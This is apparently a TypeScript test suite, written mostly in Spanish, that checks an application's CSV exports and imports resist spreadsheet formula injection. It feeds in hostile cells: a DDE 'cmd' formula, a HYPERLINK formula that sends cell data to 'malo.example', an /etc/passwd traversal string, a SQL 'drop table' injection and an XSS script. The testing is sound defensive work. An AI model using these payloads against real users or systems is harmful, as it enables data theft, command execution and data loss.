/** Files for a spreadsheet: nothing that anybody wrote anywhere becomes a formula, and a file that comes in is only text. @fuente OWASP ASVS 5.0, 1.2.10 */
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as Schema from 'effect/Schema'
import { type TestServer, startTestServer } from '../support/server.ts'

/** What a spreadsheet runs, behind what hides it. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://malo.example?x="&A1,"Ver")',
  "=cmd|'/c calc'!A1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' \t=1+1',
] as const
const RUNS = /^[\s\u00A0]*[=+\-@＝＋－＠]/u
const NUMBER = /^-?\d+(?:[.,]\d+)?$/u

let server: TestServer
let admin: string
beforeAll(async () => {
  server = await startTestServer()
  admin = await server.login('admin@cauce.demo')
})
afterAll(() => server.close())

const readRows = Schema.decodeUnknownSync(Schema.Array(Schema.Array(Schema.String)))
const cellsOf = (csv: string): readonly string[] => readRows(parse(csv, { bom: true })).flat()
const runnable = (csv: string): readonly string[] =>
  cellsOf(csv).filter((cell) => RUNS.test(cell) && !NUMBER.test(cell))

const call = async (path: string, body?: object, method?: string) => {
  const options = { token: admin, ...(body ? { body } : {}), ...(method ? { method } : {}) }
  const answer = await server.call(`/api${path}`, options)
  expect([path, answer.status]).toEqual([path, 200])
  return answer.body
}
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`

describe('lo que sale', () => {
  it('la lista de permisos, con la descripción que alguien escribió', async () => {
    const keys = await server.db.selectFrom('permisos').select('id').orderBy('id').limit(FORMULAS.length).execute()
    for (const [index, { id }] of keys.entries()) {
      await call(`/permisos/${id}`, { descripcion: FORMULAS[index] ?? '' }, 'PUT')
    }
    const csv = String(await call('/permisos/exportar'))
    expect(csv).toContain('HYPERLINK')
    expect(runnable(csv)).toEqual([])
  })

  it('la auditoría y los ingresos, con el navegador, la dirección y los nombres que cualquiera inventa', async () => {
    for (const agent of FORMULAS) {
      // A header cannot carry the line breaks, nor the wide signs.
      if (!/^[\x20-\x7e]+$/u.test(agent)) continue
      await server.call('/api/auth/validar-usuario', {
        body: { email: agent, password: agent },
        headers: { 'user-agent': agent, 'x-forwarded-for': agent },
      })
    }
    await server.db.updateTable('operadores').set({ nombre: '=1+1', apellido: '@SUM(A1)' }).execute()
    for (const [index, formula] of FORMULAS.entries()) {
      const row = { user_id: 1, accion: formula, recurso: formula, recurso_id: formula, ip: formula, agente: formula }
      await server.db
        .insertInto('auditoria')
        .values({ ...row, detalle: JSON.stringify({ [formula]: index }) })
        .execute()
    }
    for (const path of ['/auditoria/exportar', '/auditoria/ingresos/exportar']) {
      const { csv } = Schema.decodeUnknownSync(Schema.Struct({ csv: Schema.String }))(await call(path, {}))
      expect(csv).toContain('SUM(A1)')
      expect(runnable(csv)).toEqual([])
    }
  })
})

describe('lo que entra', () => {
  const header = 'tipo_documento,numero_documento,nombres,apellidos,correo,cargo,roles'
  const Reviewed = Schema.Struct({
    carga: Schema.Struct({ id: Schema.Int, rechazadas: Schema.Int, total: Schema.Int }),
  })
  const review = async (lines: readonly string[]) =>
    Schema.decodeUnknownSync(Reviewed)(
      await call('/usuarios/cargas', { nombre: 'a.csv', texto: [header, ...lines].join('\n') }),
    ).carga

  it('celdas hostiles se rechazan o quedan como texto, y el informe de rechazos no las ejecuta', async () => {
    const { id, total, rechazadas } = await review([
      ...FORMULAS.map((cell) => [cell, cell, cell, cell, cell, cell, cell].map(quoted).join(',')),
      ...[
        '../../etc/passwd',
        "'; drop table users; --",
        '<script>alert(1)</script>',
        '${7*7}',
        '{{7*7}}',
        '\u202Eofni',
        '\ud83d',
      ].map((cell, index) => ['CC', `5000${index}`, cell, cell, cell, cell, cell].map(quoted).join(',')),
    ])
    expect([total, rechazadas]).toEqual([FORMULAS.length + 7, FORMULAS.length + 7])
    const csv = String(await call(`/usuarios/cargas/${id}/rechazos`))
    expect(csv).toContain('HYPERLINK')
    expect(runnable(csv)).toEqual([])
  })

  it('lo que se carga con ellas se guarda como se escribió, y sale sin ejecutarse', async () => {
    const { id } = await review(
      FORMULAS.map((cell, index) =>
        ['CC', `77000${index}`, 'Ana', 'Ruiz', `carga${index}@hospital.co`, cell, 'Auxiliar'].map(quoted).join(','),
      ),
    )
    await call(`/usuarios/cargas/${id}/lote`, undefined, 'POST')
    const rows = await server.db
      .selectFrom('operadores')
      .select('cargo')
      .where('numero_documento', 'like', '77000%')
      .execute()
    const kept = rows.map(({ cargo }) => cargo)
    expect(kept.length).toBeGreaterThan(8)
    expect(kept).toContain("=cmd|'/c calc'!A1")
    expect(runnable(String(await call(`/usuarios/cargas/${id}/rechazos`)))).toEqual([])
  })

  it.each([
    ['una línea de un megabyte', `CC,1,${'x'.repeat(1_000_000)}`],
    ['cien mil comas', `CC,1${','.repeat(100_000)}`],
    ['comillas sin cerrar', 'CC,"1,Ana'],
    ['un carácter nulo', 'CC,1\u0000,Ana,Ruiz,a@b.co,x,Auxiliar'],
    ['seis mil líneas', Array.from({ length: 6_000 }, (_, n) => `CC,${n}`).join('\n')],
  ])('%s: se dice qué está mal, y nada se cae', async (_name, text) => {
    const body = { nombre: 'a.csv', texto: `${header}\n${text}` }
    const { status } = await server.call('/api/usuarios/cargas', { token: admin, body })
    expect([200, 422]).toContain(status)
    expect((await server.call('/healthz')).status).toBe(200)
  })
})
